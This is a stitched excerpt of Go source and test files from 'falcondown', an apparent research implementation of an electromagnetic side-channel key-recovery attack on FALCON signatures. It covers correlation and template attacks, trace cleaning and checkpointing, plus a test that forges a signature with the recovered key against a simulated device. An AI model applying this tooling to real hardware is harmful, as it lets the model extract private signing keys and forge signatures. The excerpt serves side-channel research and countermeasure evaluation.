			if len(improved) > 0 {
				priv, report, err = finishRecovery(fFFT, values, pub, cfg)
			}
		}
		if opts.OnAttempt != nil {
			opts.OnAttempt(target, err)
		}
		if err == nil {
			return priv, report, nil
		}
		lastReport, lastErr = report, err

		if target >= opts.MaxTraces {
			return nil, lastReport, fmt.Errorf("core: auto recovery failed after exhausting the %d-trace budget (%d value(s) diagnosed): %w",
				opts.MaxTraces, len(lastReport.Failed), lastErr)
		}
		target = int(float64(target) * opts.Growth)
		if target > opts.MaxTraces {
			target = opts.MaxTraces
		}
	}
}
