package core

import (
	"errors"
	"math"
	"testing"

	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/fft"
	"falcondown/internal/fpr"
	"falcondown/internal/rng"
)

// deviceFor builds a victim device around a fresh FALCON key.
func deviceFor(t *testing.T, n int, noise float64, seed uint64) (*emleak.Device, *falcon.PrivateKey, *falcon.PublicKey) {
	t.Helper()
	priv, pub, err := falcon.GenerateKey(n, rng.New(seed))
	if err != nil {
		t.Fatalf("keygen: %v", err)
	}
	dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{}, emleak.Probe{Gain: 1, NoiseSigma: noise}, seed+1)
	return dev, priv, pub
}

func collect(t *testing.T, dev *emleak.Device, count int, seed uint64) []emleak.Observation {
	t.Helper()
	obs, err := emleak.NewCampaign(dev, seed).Collect(count)
	if err != nil {
		t.Fatalf("campaign: %v", err)
	}
	return obs
}

func TestAttackValueRecoversExactBits(t *testing.T) {
	dev, priv, _ := deviceFor(t, 8, 2.0, 1)
	obs := collect(t, dev, 1500, 2)
	secret := priv.FFTOfF()
	for _, k := range []int{0, 3} {
		for _, part := range []Part{PartRe, PartIm} {
			res, err := AttackValue(obs, k, part, Config{})
			if err != nil {
				t.Fatalf("attack: %v", err)
			}
			want := part.known(secret[k])
			if res.Value != want {
				t.Fatalf("coeff %d part %d: recovered %#x, want %#x", k, part, uint64(res.Value), uint64(want))
			}
			if res.TracesUsed != 1500 {
				t.Errorf("TracesUsed = %d", res.TracesUsed)
			}
		}
	}
}

func TestAttackValueSignificanceAtLowNoise(t *testing.T) {
	dev, priv, _ := deviceFor(t, 8, 1.0, 3)
	obs := collect(t, dev, 4000, 4)
	res, err := AttackValue(obs, 1, PartRe, Config{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Value != priv.FFTOfF()[1].Re {
		t.Fatalf("wrong value recovered")
	}
	if !res.Significant {
		t.Errorf("expected statistical significance: sign=%.3f exp=%.3f prune=%.3f",
			res.SignCorr, res.ExpCorr, res.PruneCorr)
	}
	if res.RunnerUpGap <= 0 {
		t.Errorf("runner-up gap %v not positive", res.RunnerUpGap)
	}
}

func TestAttackNoTraces(t *testing.T) {
	if _, err := AttackValue(nil, 0, PartRe, Config{}); !errors.Is(err, errNoTraces) {
		t.Fatalf("expected errNoTraces, got %v", err)
	}
	if _, _, err := AttackFFTf(nil, Config{}); !errors.Is(err, errNoTraces) {
		t.Fatalf("expected errNoTraces, got %v", err)
	}
}

func TestNaiveAttackExhibitsFalsePositives(t *testing.T) {
	// The paper's Fig. 4(c): full-width CPA on the mantissa multiplication
	// cannot separate d from its in-range shifts — their correlations tie
	// exactly (HW is shift invariant).
	dev, priv, _ := deviceFor(t, 8, 2.0, 5)
	obs := collect(t, dev, 1200, 6)
	secret := priv.FFTOfF()[2].Re
	_, d := secret.MantissaHalves()
	if d == 0 {
		t.Skip("degenerate zero low half")
	}
	pool := shiftPool(d)
	r := rng.New(7)
	for len(pool) < 21 {
		pool = append(pool, uint64(r.Intn(1<<25)))
	}
	ranked := NaiveMantissaAttack(obs, 2, PartRe, pool)
	// Count pool members whose correlation is within epsilon of the top —
	// the shifted duplicates must all tie with the winner.
	ties := 0
	for _, g := range ranked {
		if ranked[0].Corr-g.Corr < 1e-9 {
			ties++
		}
	}
	wantTies := len(shiftPool(d))
	if ties < wantTies {
		t.Fatalf("only %d exact ties, want >= %d (shift false positives)", ties, wantTies)
	}
}

// shiftPool returns d together with every in-range shift of it that
// preserves the Hamming weight of all its products (left shifts staying
// below 2^25, right shifts while no set bit falls off).
func shiftPool(d uint64) []uint64 {
	pool := []uint64{d}
	for v := d << 1; v < 1<<25 && v != 0; v <<= 1 {
		pool = append(pool, v)
	}
	for v := d; v&1 == 0 && v > 1; {
		v >>= 1
		pool = append(pool, v)
	}
	return pool
}

func TestPruneEliminatesFalsePositives(t *testing.T) {
	// The paper's Fig. 4(d): rescoring the naive candidates on the
	// intermediate additions leaves a unique winner — the true value.
	dev, priv, _ := deviceFor(t, 8, 2.0, 8)
	obs := collect(t, dev, 1200, 9)
	secret := priv.FFTOfF()[2].Re
	c, d := secret.MantissaHalves()
	if d == 0 {
		t.Skip("degenerate zero low half")
	}
	pool := shiftPool(d)
	r := rng.New(10)
	for len(pool) < 16 {
		pool = append(pool, uint64(r.Intn(1<<25)))
	}
	ranked := PruneCandidates(obs, 2, PartRe, pool, []uint64{c})
	if pool[ranked[0].Index] != d {
		t.Fatalf("prune winner %#x, want %#x", pool[ranked[0].Index], d)
	}
	if len(ranked) > 1 && ranked[0].Corr-ranked[1].Corr < 1e-6 {
		t.Fatalf("prune left a tie: %.6f vs %.6f", ranked[0].Corr, ranked[1].Corr)
	}
}

func TestDirectAdditionAttackIsWeaker(t *testing.T) {
	// Ablation for the paper's design note: attacking the addition without
	// the multiplication stage weakens the distinguisher because the D×B
	// and D×A bit positions do not align.
	dev, priv, _ := deviceFor(t, 8, 2.0, 11)
	obs := collect(t, dev, 1500, 12)
	secret := priv.FFTOfF()[0].Re
	_, d := secret.MantissaHalves()
	pool := []uint64{d}
	r := rng.New(13)
	for len(pool) < 32 {
		pool = append(pool, uint64(r.Intn(1<<25)))
	}
	direct := DirectAdditionAttack(obs, 0, PartRe, pool)
	naive := NaiveMantissaAttack(obs, 0, PartRe, pool)
	if direct[0].Corr >= naive[0].Corr {
		t.Fatalf("direct addition attack (%.4f) not weaker than multiplication CPA (%.4f)",
			direct[0].Corr, naive[0].Corr)
	}
}

func TestRecoverKeyEndToEndAndForge(t *testing.T) {
	// The full break: traces → FFT(f) → f → g → (F, G) → forged signature
	// accepted by the real public key.
	dev, priv, pub := deviceFor(t, 16, 2.0, 14)
	obs := collect(t, dev, 1500, 15)
	recovered, report, err := RecoverKey(obs, pub, Config{})
	if err != nil {
		t.Fatalf("recovery failed: %v", err)
	}
	for i := range recovered.Fs {
		if recovered.Fs[i] != priv.Fs[i] {
			t.Fatalf("f[%d] = %d, want %d", i, recovered.Fs[i], priv.Fs[i])
		}
		if recovered.Gs[i] != priv.Gs[i] {
			t.Fatalf("g[%d] = %d, want %d", i, recovered.Gs[i], priv.Gs[i])
		}
	}
	if len(report.Values) != 16 {
		t.Fatalf("report has %d values", len(report.Values))
	}
	// Forge a signature on an arbitrary message with the recovered key.
	msg := []byte("forged by the adversary — never signed by the victim")
	sig, err := recovered.Sign(msg, rng.New(99))
	if err != nil {
		t.Fatalf("forging failed: %v", err)
	}
	if err := pub.Verify(msg, sig); err != nil {
		t.Fatalf("forged signature rejected: %v", err)
	}
}

func TestRecoverKeyDetectsGarbage(t *testing.T) {
	// Failure injection: with overwhelming noise the attack must report
	// failure rather than fabricate a key.
	dev, _, pub := deviceFor(t, 8, 1e6, 16)
	obs := collect(t, dev, 50, 17)
	_, _, err := RecoverKey(obs, pub, Config{})
	if err == nil {
		t.Fatal("recovery claimed success on pure noise")
	}
	if !errors.Is(err, ErrImplausibleKey) {
		t.Fatalf("expected ErrImplausibleKey, got %v", err)
	}
}

func TestShufflingCountermeasureDegradesAttack(t *testing.T) {
	// §V.B: randomizing the coefficient processing order misaligns the
	// windows; the per-coefficient attack should stop recovering exact
	// values.
	dev, priv, _ := deviceFor(t, 16, 1.0, 18)
	dev.Shuffle = true
	obs := collect(t, dev, 1200, 19)
	secret := priv.FFTOfF()
	matches := 0
	for k := 0; k < 4; k++ {
		res, err := AttackValue(obs, k, PartRe, Config{})
		if err != nil {
			t.Fatal(err)
		}
		if res.Value == secret[k].Re {
			matches++
		}
	}
	if matches == 4 {
		t.Fatal("attack fully succeeded despite shuffling countermeasure")
	}
}

func TestAttackWithHammingDistanceModel(t *testing.T) {
	// The attack assumes HW leakage; under an HD device the predictions
	// still correlate (registers change from related values), but exact
	// recovery is not guaranteed. This test just asserts the machinery
	// runs and reports sane statistics.
	priv, _, err := falcon.GenerateKey(8, rng.New(20))
	if err != nil {
		t.Fatal(err)
	}
	dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingDistance{}, emleak.Probe{Gain: 1, NoiseSigma: 1}, 21)
	obs := collect(t, dev, 400, 22)
	res, err := AttackValue(obs, 0, PartRe, Config{})
	if err != nil {
		t.Fatal(err)
	}
	if math.IsNaN(res.PruneCorr) || res.PruneCorr < -1 || res.PruneCorr > 1 {
		t.Fatalf("insane correlation %v", res.PruneCorr)
	}
}

func TestPartAccessors(t *testing.T) {
	z := fft.Cplx{Re: fpr.One, Im: fpr.Two}
	if PartRe.known(z) != fpr.One || PartIm.known(z) != fpr.Two {
		t.Fatal("part accessors broken")
	}
	if PartRe.mulSlot() != emleak.MulReRe || PartIm.mulSlot() != emleak.MulImIm {
		t.Fatal("mul slots broken")
	}
}

func TestConfigDefaults(t *testing.T) {
	c := Config{}.withDefaults()
	if c.TopK != 8 || c.Window != 5 || c.Confidence != 0.9999 {
		t.Fatalf("defaults = %+v", c)
	}
	c = Config{TopK: 4, Window: 3, Confidence: 0.99}.withDefaults()
	if c.TopK != 4 || c.Window != 3 || c.Confidence != 0.99 {
		t.Fatalf("overrides lost: %+v", c)
	}
}
