package core

import (
	"testing"

	"falcondown/internal/falcon"
	"falcondown/internal/fpr"
	"falcondown/internal/rng"
)

func TestWithExponent(t *testing.T) {
	v := fpr.FromFloat64(-3.75)
	w := withExponent(v, 1030)
	if w.BiasedExp() != 1030 {
		t.Fatalf("exponent = %d", w.BiasedExp())
	}
	if w.Sign() != v.Sign() || w.Mantissa() != v.Mantissa() {
		t.Fatal("sign/mantissa disturbed")
	}
}

func TestCorrectExponentsRepairsSingleTieError(t *testing.T) {
	// Simulate the exponent tie-break picking a +16 family member on one
	// value: the error-correction pass must find the true exponent among
	// the recorded alternatives via the public-key consistency check.
	priv, pub, err := falcon.GenerateKey(16, rng.New(77))
	if err != nil {
		t.Fatal(err)
	}
	vec := priv.FFTOfF()
	trueExp := vec[3].Re.BiasedExp()
	vec[3].Re = withExponent(vec[3].Re, trueExp+16)

	values := make([]ValueResult, 2*len(vec))
	for i := range values {
		values[i].ExpCorr = 0.5
	}
	// Record the true exponent as a tie alternative of the corrupted value.
	values[2*3].ExpAlternatives = []int{trueExp}
	values[2*3].ExpCorr = 0.2 // least confident -> tried first

	fix, capped := correctExponents(pub, vec, values)
	if fix == nil {
		t.Fatal("correction failed")
	}
	if capped {
		t.Fatal("correction reported a capped search with only one tie family")
	}
	if len(fix.corrected) != 1 || fix.corrected[0] != 2*3 {
		t.Fatalf("corrected = %v, want [6]", fix.corrected)
	}
	f, g := fix.f, fix.g
	for i := range f {
		if f[i] != priv.Fs[i] {
			t.Fatalf("f[%d] = %d, want %d", i, f[i], priv.Fs[i])
		}
		if g[i] != priv.Gs[i] {
			t.Fatalf("g[%d] = %d, want %d", i, g[i], priv.Gs[i])
		}
	}
}

func TestCorrectExponentsGivesUpOnGarbage(t *testing.T) {
	priv, pub, err := falcon.GenerateKey(8, rng.New(78))
	if err != nil {
		t.Fatal(err)
	}
	vec := priv.FFTOfF()
	// Corrupt two values beyond any recorded alternative.
	vec[0].Re = withExponent(vec[0].Re, 1200)
	vec[1].Im = withExponent(vec[1].Im, 900)
	values := make([]ValueResult, 2*len(vec))
	values[0].ExpAlternatives = []int{1201} // wrong alternative
	if fix, _ := correctExponents(pub, vec, values); fix != nil {
		t.Fatal("correction claimed success on unfixable corruption")
	}
}

func TestDeriveG(t *testing.T) {
	priv, pub, err := falcon.GenerateKey(8, rng.New(79))
	if err != nil {
		t.Fatal(err)
	}
	g, err := deriveG(pub, priv.Fs)
	if err != nil {
		t.Fatal(err)
	}
	for i := range g {
		if g[i] != priv.Gs[i] {
			t.Fatalf("g[%d] mismatch", i)
		}
	}
	// A corrupted f must be rejected.
	bad := append([]int16(nil), priv.Fs...)
	bad[0] += 3
	if _, err := deriveG(pub, bad); err == nil {
		t.Fatal("corrupted f accepted")
	}
}
