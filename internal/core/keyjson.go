package core

import "encoding/json"

// recoveredKey is the canonical JSON shape of a recovered secret element
// pair. Only f and g appear: F and G are recomputed from them by the NTRU
// solver, so (f, g) is the complete, minimal witness of a successful
// extraction.
type recoveredKey struct {
	F []int16 `json:"f"`
	G []int16 `json:"g"`
}

// KeyJSON serializes a recovered (f, g) pair to its canonical JSON form.
// Both cmd/attack's -key dump and the campaign server's key endpoint emit
// exactly these bytes, so "the server recovered the same key as the CLI"
// is a byte comparison, not a structural one.
func KeyJSON(f, g []int16) []byte {
	data, err := json.Marshal(recoveredKey{F: f, G: g})
	if err != nil {
		// Two int16 slices cannot fail to marshal.
		panic("core: key serialization: " + err.Error())
	}
	return append(data, '\n')
}
