package core

// Re-exports of the correlation-kernel selector, so CLI and service
// layers configure the sweep kernel without importing internal/cpa.

import "falcondown/internal/cpa"

// Kernel selects how the CPA accumulators execute (scalar, blocked,
// fixed-point). Every kernel produces bit-identical results on every
// corpus; the choice is pure performance strategy.
type Kernel = cpa.Kernel

// The available kernels; the zero value is the scalar reference path.
const (
	KernelScalar  = cpa.KernelScalar
	KernelBlocked = cpa.KernelBlocked
	KernelFixed   = cpa.KernelFixed
)

// ParseKernel parses a kernel name ("", "scalar", "blocked", "fixed").
func ParseKernel(s string) (Kernel, error) { return cpa.ParseKernel(s) }

// Kernels enumerates every kernel, for differential tests and benchmarks.
func Kernels() []Kernel { return cpa.Kernels() }
