package core

import (
	"math"

	"falcondown/internal/cpa"
	"falcondown/internal/emleak"
	"falcondown/internal/tracestore"
)

// Dirty-trace hardening. A real capture rig emits a few percent of
// saturated, desynchronized or drifting traces; plain Pearson CPA is
// fragile against them (one full-scale outlier outweighs hundreds of
// clean traces in the cross-product sums). When Config.Robust is enabled
// the attack first derives a pinned preprocessing plan from the corpus —
// which traces to drop, the alignment template, the winsorization bounds
// — and then runs every phase through a transforming Source that applies
// the identical plan on every pass, preserving the multi-pass contract
// (each sweep sees the same traces, same order, same bytes).

// RobustConfig tunes the dirty-trace preprocessing. The zero value
// disables it entirely.
type RobustConfig struct {
	// TrimSigmas drops traces whose RMS energy is more than this many
	// robust standard deviations (median/MAD) from the campaign's
	// typical energy — saturated or dead captures (0 disables).
	TrimSigmas float64
	// ResyncShift realigns each trace against the campaign-mean template
	// by cross-correlation over ±ResyncShift samples, undoing trigger
	// desync (0 disables).
	ResyncShift int
	// Winsorize clamps every sample into its per-position mean ± k·σ
	// band, with the band refined once on the clamped data so outliers
	// do not inflate their own bounds (0 disables).
	Winsorize float64
}

// Enabled reports whether any preprocessing step is active.
func (r RobustConfig) Enabled() bool {
	return r.TrimSigmas > 0 || r.ResyncShift > 0 || r.Winsorize > 0
}

// prepareRobust derives the preprocessing plan from the corpus (up to
// three extra sweeps) and returns the transforming source. The plan is a
// pure function of the corpus bytes and rc — never of the worker count:
// the per-trace pass writes into index-keyed slots and the per-sample
// pass folds shard partials in the canonical order — so resumed attacks
// rebuild the identical plan at any parallelism.
func prepareRobust(src Source, rc RobustConfig, workers int) (Source, error) {
	// A distributed attack derives the identical plan: the RMS pass runs
	// coordinator-local (the coordinator owns the corpus anyway), the
	// welford passes distribute as wire jobs against the masked view, and
	// the finished plan is described to workers through the wire view so
	// every later pass sees the same transformed bytes.
	ds, distributed := src.(*distSource)
	if distributed {
		src = ds.Source
	}
	finish := func(rs *robustSource, masks [][]int) Source {
		if !distributed {
			return rs
		}
		view := SourceSpec{Masks: masks, Robust: rs.planSpec()}
		return &distSource{Source: rs, dist: ds.dist, view: view, pin: ds.pin}
	}

	// Pass 1: per-trace RMS energies, keyed by corpus index.
	rms := make([]float64, src.Count())
	if err := parallelMap(src, workers, func(idx int, o emleak.Observation) {
		rms[idx] = cpa.RMS(o.Trace.Samples)
	}); err != nil {
		return nil, err
	}
	var skip []int
	if rc.TrimSigmas > 0 {
		skip = energyOutliers(rms, rc.TrimSigmas)
	}
	base := src
	var masks [][]int
	if len(skip) > 0 {
		base = tracestore.NewMaskedSource(src, skip)
		masks = [][]int{skip}
	}
	sweepSrc := base
	if distributed {
		sweepSrc = &distSource{Source: base, dist: ds.dist, view: SourceSpec{Masks: masks}, pin: ds.pin}
	}
	rs := &robustSource{inner: base, cfg: rc, trimmed: len(skip)}
	if rc.ResyncShift <= 0 && rc.Winsorize <= 0 {
		return finish(rs, masks), nil
	}

	// Pass 2 (kept traces): per-sample mean template and variance.
	mean, m2, n, err := sampleStats(sweepSrc, nil, false, workers)
	if err != nil {
		return nil, err
	}
	rs.template = mean
	if rc.Winsorize <= 0 {
		return finish(rs, masks), nil
	}
	lo, hi := winsorBounds(mean, m2, n, rc.Winsorize)

	// Pass 3: refine the bounds on resynced-and-clamped data, so the
	// outliers being clamped do not inflate the σ that bounds them.
	rs.lo, rs.hi = lo, hi
	mean2, m22, n2, err := sampleStats(sweepSrc, rs, true, workers)
	if err != nil {
		return nil, err
	}
	rs.lo, rs.hi = winsorBounds(mean2, m22, n2, rc.Winsorize)
	return finish(rs, masks), nil
}

// energyOutliers flags indices whose value sits more than k robust
// standard deviations from the median (MAD-based; falls back to the
// plain σ when the MAD degenerates to zero).
func energyOutliers(vals []float64, k float64) []int {
	if len(vals) < 3 {
		return nil
	}
	med := medianOf(vals)
	dev := make([]float64, len(vals))
	for i, v := range vals {
		dev[i] = math.Abs(v - med)
	}
	scale := 1.4826 * medianOf(dev)
	if scale == 0 {
		var st cpa.RunningStats
		for _, v := range vals {
			st.Add(v)
		}
		scale = st.Std()
	}
	if scale == 0 {
		return nil
	}
	var out []int
	for i, v := range vals {
		if math.Abs(v-med) > k*scale {
			out = append(out, i)
		}
	}
	return out
}

func medianOf(vals []float64) float64 {
	s := append([]float64(nil), vals...)
	// Insertion sort: the slices here are one value per trace, and the
	// cost is dwarfed by the corpus sweep that produced them.
	for i := 1; i < len(s); i++ {
		for j := i; j > 0 && s[j] < s[j-1]; j-- {
			s[j], s[j-1] = s[j-1], s[j]
		}
	}
	if len(s)%2 == 1 {
		return s[len(s)/2]
	}
	return (s[len(s)/2-1] + s[len(s)/2]) / 2
}

// welfordJob accumulates per-sample Welford statistics as a mergeJob, so
// the preprocessing statistics ride the same canonical sharded reduction
// as the attack passes: clones fold their shard partials in shard order
// (Chan's combination in RunningStats.Merge), making the derived plan a
// deterministic, worker-count-independent function of the corpus. When
// transform is non-nil each trace is seen through the robustSource's
// resync/clamp pipeline (used by the refinement pass); apply is
// read-only on the source's plan, so clones share it safely.
type welfordJob struct {
	transform *robustSource
	clamp     bool
	stats     []cpa.RunningStats // lazily sized to the trace length
	scratch   []float64
}

func (j *welfordJob) observe(o emleak.Observation) {
	s := o.Trace.Samples
	if j.transform != nil {
		if j.scratch == nil {
			j.scratch = make([]float64, len(s))
		}
		copy(j.scratch, s)
		j.transform.apply(j.scratch, j.clamp)
		s = j.scratch
	}
	if j.stats == nil {
		j.stats = make([]cpa.RunningStats, len(s))
	}
	for i, v := range s {
		j.stats[i].Add(v)
	}
}

func (j *welfordJob) clone() mergeJob {
	return &welfordJob{transform: j.transform, clamp: j.clamp}
}

func (j *welfordJob) merge(o mergeJob) {
	ow := o.(*welfordJob)
	if ow.stats == nil {
		return
	}
	if j.stats == nil {
		j.stats = make([]cpa.RunningStats, len(ow.stats))
	}
	for i := range j.stats {
		j.stats[i].Merge(ow.stats[i])
	}
}

// sampleStats accumulates per-sample mean/m2 over one pass of src.
func sampleStats(src Source, transform *robustSource, clamp bool, workers int) (mean, m2 []float64, n int, err error) {
	j := &welfordJob{transform: transform, clamp: clamp}
	if err := runPass(src, []passJob{j}, workers); err != nil {
		return nil, nil, 0, err
	}
	if j.stats == nil {
		return nil, nil, 0, nil
	}
	mean = make([]float64, len(j.stats))
	m2 = make([]float64, len(j.stats))
	n = j.stats[0].N()
	for i := range j.stats {
		mean[i] = j.stats[i].Mean()
		m2[i] = j.stats[i].M2()
	}
	return mean, m2, n, nil
}

// winsorBounds converts per-sample Welford accumulators into clamp bands
// mean ± k·σ; zero-variance positions get infinite bands (nothing to
// clamp there).
func winsorBounds(mean, m2 []float64, n int, k float64) (lo, hi []float64) {
	lo = make([]float64, len(mean))
	hi = make([]float64, len(mean))
	for j := range mean {
		sd := 0.0
		if n >= 2 {
			sd = math.Sqrt(m2[j] / float64(n))
		}
		if sd <= 0 {
			lo[j] = math.Inf(-1)
			hi[j] = math.Inf(1)
			continue
		}
		lo[j] = mean[j] - k*sd
		hi[j] = mean[j] + k*sd
	}
	return lo, hi
}

// robustSource is the transforming Source: it masks trimmed traces (via
// its inner MaskedSource), resynchronizes each surviving trace against
// the template, and winsorizes samples into their pinned bands. The plan
// (mask, template, bounds) is fixed at construction, so every Iterate
// yields identical bytes.
type robustSource struct {
	inner    tracestore.Source
	cfg      RobustConfig
	trimmed  int
	template []float64 // per-sample mean of kept traces (resync reference)
	lo, hi   []float64 // winsorization bands (nil until derived)
}

// N implements Source.
func (s *robustSource) N() int { return s.inner.N() }

// Count implements Source (after trimming).
func (s *robustSource) Count() int { return s.inner.Count() }

// Trimmed reports how many traces the energy screen dropped.
func (s *robustSource) Trimmed() int { return s.trimmed }

// apply runs the in-place transform pipeline on one trace's samples.
func (s *robustSource) apply(samples []float64, clamp bool) {
	if s.cfg.ResyncShift > 0 && s.template != nil {
		if lag := cpa.BestLag(samples, s.template, s.cfg.ResyncShift); lag != 0 {
			shifted := make([]float64, len(samples))
			cpa.ShiftInto(shifted, samples, s.template, lag)
			copy(samples, shifted)
		}
	}
	if clamp && s.lo != nil {
		for j, v := range samples {
			if v < s.lo[j] {
				samples[j] = s.lo[j]
			} else if v > s.hi[j] {
				samples[j] = s.hi[j]
			}
		}
	}
}

// Iterate implements Source.
func (s *robustSource) Iterate() (tracestore.Iterator, error) {
	it, err := s.inner.Iterate()
	if err != nil {
		return nil, err
	}
	return &robustIterator{inner: it, src: s}, nil
}

type robustIterator struct {
	inner tracestore.Iterator
	src   *robustSource
}

func (it *robustIterator) Next() (emleak.Observation, error) {
	o, err := it.inner.Next()
	if err != nil {
		return o, err
	}
	// Copy before transforming: slice-backed sources hand out views of
	// their underlying storage.
	samples := append([]float64(nil), o.Trace.Samples...)
	it.src.apply(samples, true)
	o.Trace = emleak.Trace{Samples: samples}
	return o, nil
}

func (it *robustIterator) Close() error { return it.inner.Close() }

var _ Source = (*robustSource)(nil)
