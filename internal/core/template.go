package core

import (
	"errors"
	"math"
	"math/bits"
	"sort"

	"falcondown/internal/cpa"
	"falcondown/internal/emleak"
	"falcondown/internal/fft"
	"falcondown/internal/fpr"
)

// Template is a profiled leakage model for one micro-op sample: the mean
// and variance of the measured leakage conditioned on the Hamming-weight
// class of the latched value. The paper's §V.A notes the attack can be
// extended with template profiling (Chari et al.) for better measurement
// efficiency; this implements that extension. Profiling assumes the
// standard template threat model: the adversary owns an identical clone
// device whose key (and therefore every intermediate) it knows.
type Template struct {
	mean  [65]float64
	vari  [65]float64
	count [65]int
}

// errNoProfile reports that no profiling class was observed.
var errNoProfile = errors.New("core: profiling campaign produced no classes")

// ProfileTemplate learns the per-class statistics from a clone-device
// campaign with known secret (the clone's FFT(f)), at the given
// coefficient/part/micro-op.
func ProfileTemplate(obs []emleak.Observation, cloneSecret []fft.Cplx, coeff int, part Part, op fpr.Op) (*Template, error) {
	if len(obs) == 0 {
		return nil, errNoTraces
	}
	slot := part.mulSlot()
	sampleAt := emleak.SampleIndex(coeff, slot, int(op))
	var sum, sumSq [65]float64
	t := &Template{}
	var rec fpr.SliceRecorder
	for _, o := range obs {
		rec.Reset()
		fft.MulTraced(o.CFFT[coeff], cloneSecret[coeff], &rec)
		if rec.Len() != emleak.SamplesPerCoeff {
			continue
		}
		v := rec.Values[slot*emleak.OpsPerMul+int(op)]
		cls := bits.OnesCount64(v)
		x := o.Trace.Samples[sampleAt]
		sum[cls] += x
		sumSq[cls] += x * x
		t.count[cls]++
	}
	seen := 0
	for cls := 0; cls < 65; cls++ {
		if t.count[cls] < 2 {
			continue
		}
		n := float64(t.count[cls])
		t.mean[cls] = sum[cls] / n
		t.vari[cls] = sumSq[cls]/n - t.mean[cls]*t.mean[cls]
		if t.vari[cls] <= 0 {
			t.vari[cls] = 1e-9
		}
		seen++
	}
	if seen < 2 {
		return nil, errNoProfile
	}
	t.interpolate()
	return t, nil
}

// interpolate fills unobserved classes by fitting the linear HW model
// through the observed class means (ordinary least squares) and using the
// pooled variance — the physically motivated extrapolation for a
// HW-linear channel.
func (t *Template) interpolate() {
	var n, sx, sy, sxx, sxy, pooledVar float64
	for cls := 0; cls < 65; cls++ {
		if t.count[cls] < 2 {
			continue
		}
		x := float64(cls)
		n++
		sx += x
		sy += t.mean[cls]
		sxx += x * x
		sxy += x * t.mean[cls]
		pooledVar += t.vari[cls]
	}
	pooledVar /= n
	den := n*sxx - sx*sx
	slope, inter := 0.0, sy/n
	if den != 0 {
		slope = (n*sxy - sx*sy) / den
		inter = (sy - slope*sx) / n
	}
	for cls := 0; cls < 65; cls++ {
		if t.count[cls] < 2 {
			t.mean[cls] = inter + slope*float64(cls)
			t.vari[cls] = pooledVar
		}
	}
}

// LogLikelihood returns the Gaussian log-likelihood of observing x under
// the given Hamming-weight class.
func (t *Template) LogLikelihood(cls int, x float64) float64 {
	m, v := t.mean[cls], t.vari[cls]
	d := x - m
	return -0.5*math.Log(2*math.Pi*v) - d*d/(2*v)
}

// TemplateAttackLowHalf ranks candidate low mantissa halves by summed
// log-likelihood over the campaign — the maximum-likelihood profiled
// variant of the naive multiplication attack. Like the naive attack it
// inherits the shift false positives (the HW classes of shifted products
// coincide), so it is followed by the same prune phase; its advantage is
// measurement efficiency on the distinguishable candidates.
func TemplateAttackLowHalf(obs []emleak.Observation, coeff int, part Part, candidates []uint64, tpl *Template) []cpa.Guess {
	slot := part.mulSlot()
	sampleAt := emleak.SampleIndex(coeff, slot, int(fpr.OpMulLL))
	scores := make([]float64, len(candidates))
	for _, o := range obs {
		_, b := part.known(o.CFFT[coeff]).MantissaHalves()
		x := o.Trace.Samples[sampleAt]
		for i, d := range candidates {
			cls := bits.OnesCount64(b * d)
			scores[i] += tpl.LogLikelihood(cls, x)
		}
	}
	g := make([]cpa.Guess, len(candidates))
	for i, s := range scores {
		g[i] = cpa.Guess{Index: i, Corr: s}
	}
	sort.Slice(g, func(a, b int) bool { return g[a].Corr > g[b].Corr })
	return g
}
