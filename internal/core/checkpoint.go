package core

import (
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"

	"falcondown/internal/fpr"
)

// Checkpointed recovery. The whole-key attack is a sequence of expensive
// corpus sweeps (exponents, extend rounds, prune, escalation, signs,
// straggler retries); on a multi-gigabyte campaign each phase can run for
// hours. A killed attack must not restart from zero: the runner serializes
// its per-phase state to a sidecar after every completed phase, and a
// resumed run reloads the last completed phase and continues from the next
// one without re-sweeping the corpus for work already done.
//
// DESIGN.md §3.2 documents the sidecar format and the resume rules.

// Attack phases in execution order. A checkpoint's Stage names the last
// phase that COMPLETED; resume starts at the next one.
const (
	StageExponents   = "exponents"  // per-value exponent pass done
	StageMantissa    = "mantissa"   // extend rounds + prune done for every value
	StageEscalation  = "escalation" // weak-prune beam escalation done
	StageSigns       = "signs"      // joint sign pass done; values assembled
	StageStragglers  = "stragglers" // below-median retry done; attack complete
	checkpointFormat = 1            // sidecar schema version
)

// stageRank maps a completed stage to the number of phases finished; the
// empty stage (fresh run) ranks zero.
func stageRank(stage string) (int, error) {
	switch stage {
	case "":
		return 0, nil
	case StageExponents:
		return 1, nil
	case StageMantissa:
		return 2, nil
	case StageEscalation:
		return 3, nil
	case StageSigns:
		return 4, nil
	case StageStragglers:
		return 5, nil
	}
	return 0, fmt.Errorf("%w: unknown stage %q", ErrCheckpointMismatch, stage)
}

// ErrCheckpointMismatch reports a checkpoint that does not belong to the
// campaign being attacked (different corpus size, degree, or attack
// configuration) or that is structurally unusable. Resuming against the
// wrong corpus would silently blend state from two campaigns, so this is
// always fatal; delete the sidecar to start over.
var ErrCheckpointMismatch = errors.New("core: checkpoint does not match this attack")

// MagCheckpoint is the serialized per-value magnitude state (the working
// state of the exponent, mantissa and escalation phases). Mant is a string
// in JSON so 52-bit values survive consumers that parse numbers as
// float64.
type MagCheckpoint struct {
	BiasedExp int     `json:"biasedExp"`
	ExpAlts   []int   `json:"expAlts,omitempty"`
	Mant      uint64  `json:"mant,string"`
	ExpCorr   float64 `json:"expCorr"`
	PruneCorr float64 `json:"pruneCorr"`
	Gap       float64 `json:"gap"`
	Escalated bool    `json:"escalated,omitempty"`
}

// ValueCheckpoint is the serialized form of a ValueResult (present once
// the signs phase has completed). Value carries the full 64-bit FPR bit
// pattern, as a string for the same reason as Mant.
type ValueCheckpoint struct {
	Value           uint64  `json:"value,string"`
	SignCorr        float64 `json:"signCorr"`
	ExpCorr         float64 `json:"expCorr"`
	ExpAlternatives []int   `json:"expAlternatives,omitempty"`
	PruneCorr       float64 `json:"pruneCorr"`
	RunnerUpGap     float64 `json:"runnerUpGap"`
	Escalated       bool    `json:"escalated,omitempty"`
	Significant     bool    `json:"significant"`
	TracesUsed      int     `json:"tracesUsed"`
}

// Checkpoint is the attack state serialized after each completed phase.
// N, Count and Config bind it to one campaign + configuration; Load-time
// verification refuses to resume against anything else.
type Checkpoint struct {
	Format  int               `json:"format"`
	N       int               `json:"n"`
